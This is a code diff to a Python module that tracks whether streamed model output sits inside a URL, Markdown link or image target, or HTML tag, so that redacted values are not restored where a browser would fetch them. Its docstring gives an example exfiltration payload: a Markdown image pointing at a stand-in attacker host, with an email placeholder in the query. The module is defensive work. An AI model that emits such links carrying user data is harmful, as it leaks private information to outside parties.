@@ -1,48 +1,140 @@
 """Where a browser would fetch or follow what stands in a text: URLs, link and image targets, HTML tags.
 
 A model can be talked into writing `![x](https://evil.example/?q=[EMAIL_1])`: a value restored there would leave with
-the first look at the page. `Places` follows a text as it is written and says whether the next character stands in
-such a place. It errs on the side of saying yes, and goes by what has been written only, so cutting the text changes
+the first look at the page. `Places` follows a text as it is written and says whether the next character stands in such
+a place. It errs on the side of saying yes, and goes by what has been written only, so cutting the text changes
 nothing.
 
-Rules: CommonMark 0.31.2 (links, images, reference definitions, autolinks), GitHub Flavored Markdown (extended autolinks
-run to white space or `<`), HTML Living Standard, 13.2.5 (a tag runs from `<` and a letter, `/`, `!` or `?` to `>`).
+Rules: CommonMark 0.31.2 (links, images, reference definitions, autolinks), GitHub Flavored Markdown (extended
+autolinks run to white space or `<`), HTML Living Standard, 13.2.5 (a tag runs from `<` and a letter, `/`, `!` or `?`
+to `>`; a script or a style to its end tag).
 """
 
 from __future__ import annotations
 
 import re
 
-_OPENER = re.compile(r"(?P<url>//|www\.)|(?P<target>\]\()|(?P<definition>\]:)|(?P<tag><[A-Za-z/!?])", re.IGNORECASE)
+_URLS = re.compile(r"(?P<url>//|www\.)", re.IGNORECASE)
+_TARGETS = re.compile(r"(?P<target>\]\()|(?P<definition>\]:)")
 _URL_END = re.compile(r"[ \t\n\v\f\r<]")
 _TARGET_STEP = re.compile(r"\\[^\n]|[()]|\n[ \t]*\n")
 _TARGET_CUT = re.compile(r"(?:\\|\n[ \t]*)\Z")
-_TAG_STEP = re.compile("[\"'>]")
+_TAG_STEP = re.compile(r"<[A-Za-z/!?]?|[>\"'=\n]|[^<>\"'=\s]+")
 _LONGEST_OPENER = 4
+_RAW = re.compile("<(/?)(script|style)", re.IGNORECASE)
+_LONGEST_RAW = 8
 
 
 class Places:
-    """Follows one text.
+    """Follows one text. URLs, targets and tags are followed apart: one goes on where another has ended.
 
     Attributes:
-        inside: what the text ends in: "url", "target", "definition", "tag", or "" for plain text.
+        before: the last character of the text.
     """
 
     def __init__(self) -> None:
-        self.inside = ""
-        self._carry = ""
-        self._depth = 0
-        self._quote = ""
+        self.before = ""
+        self._urls = _Links(_URLS)
+        self._targets = _Links(_TARGETS)
+        self._tags = _Tags()
+
+    @property
+    def inside(self) -> str:
+        """What the text ends in: "url", "target", "definition", "tag", or "" for plain text."""
+        return self._urls.inside or self._targets.inside or ("tag" if self._tags.open else "")
 
     def feed(self, text: str) -> None:
         """Take the next piece of the text."""
+        self._urls.feed(text)
+        self._targets.feed(text)
+        self._tags.feed(text)
+        self.before = text[-1:] or self.before
+
+
+class _Tags:
+    """Follows HTML tags from every place where one could begin, and scripts and styles up to their end tags.
+
+    Whether a `<` begins a tag depends on what stands before it, and Markdown and HTML do not agree on that. So every
+    one begins a tag here, beside those that are open already; the tags that are open differ only in how their
+    attributes stand. One with a line break in it is taken to stay open: Markdown may write the `>` of the next line as
+    `&gt;`.
+    """
+
+    def __init__(self) -> None:
+        self._states: frozenset[str] = frozenset()
+        self._broken = False
+        self._raw = {"script": 0, "style": 0}
+        self._carry = ""
+        self._raw_carry = ""
+
+    @property
+    def open(self) -> bool:
+        return self._broken or bool(self._states) or any(self._raw.values())
+
+    def feed(self, text: str) -> None:
+        buffer = self._carry + text
+        if self._broken:
+            return
+        self._carry = "<" if buffer.endswith("<") else ""
+        at = 0
+        end = len(buffer) - len(self._carry)
+        while at < end:
+            if not self._states:
+                at = buffer.find("<", at, end)
+                if at < 0:
+                    break
+            step = _TAG_STEP.search(buffer, at, end)
+            if not step:
+                break
+            at = step.end()
+            if step[0] == "\n":
+                self._broken = True
+                return
+            self._states = _after(self._states, step[0])
+        self._feed_raw(text)
+
+    def _feed_raw(self, text: str) -> None:
+        """Scripts and styles run until their own end tag, whatever stands in them and round them."""
+        buffer = self._raw_carry + text
+        at = 0
+        for match in _RAW.finditer(buffer):
+            name, at = match[2].lower(), match.end()
+            self._raw[name] = max(0, self._raw[name] - 1) if match[1] else self._raw[name] + 1
+        self._raw_carry = buffer[max(at, len(buffer) - _LONGEST_RAW + 1) :]
+
+
+def _after(states: frozenset[str], token: str) -> frozenset[str]:
+    """How open tags stand after a token: in a quoted value (its quote), after an equals sign ("="), or neither ("")."""
+    found = set()
+    for state in states:
+        if state in ('"', "'"):
+            found.add("" if token == state else state)
+        elif token == "=" or (state == "=" and token in ('"', "'")):
+            found.add(token)
+        elif token != ">":
+            found.add("")
+    if token[0] == "<" and len(token) == 2:
+        found.add("")
+    return frozenset(found)
+
+
+class _Links:
+    """Follows what one expression opens: URLs, or targets of links and images and reference definitions."""
+
+    def __init__(self, openers: re.Pattern[str]) -> None:
+        self.inside = ""
+        self._openers = openers
+        self._carry = ""
+        self._depth = 0
+
+    def feed(self, text: str) -> None:
         buffer = self._carry + text
         at = 0
         while at < len(buffer):
             if self.inside:
                 at = getattr(self, f"_{self.inside}")(buffer, at)
             else:
-                opener = _OPENER.search(buffer, at)
+                opener = self._openers.search(buffer, at)
                 if not opener:
                     self._carry = buffer[max(at, len(buffer) - _LONGEST_OPENER + 1) :]
                     return
@@ -52,7 +144,7 @@ class Places:
         self._carry = ""
 
     def _leave(self) -> None:
-        self.inside, self._depth, self._quote = "", 0, ""
+        self.inside, self._depth = "", 0
 
     def _stay(self, carry: str = "") -> int:
         self._carry = carry
@@ -84,14 +176,3 @@ class Places:
                 return at
         cut = _TARGET_CUT.search(buffer, at)
         return self._stay(cut[0] if cut else "")
-
-    def _tag(self, buffer: str, at: int) -> int:
-        for step in _TAG_STEP.finditer(buffer, at):
-            if self._quote:
-                self._quote = "" if step[0] == self._quote else self._quote
-            elif step[0] == ">":
-                self._leave()
-                return step.end()
-            else:
-                self._quote = step[0]
-        return self._stay()
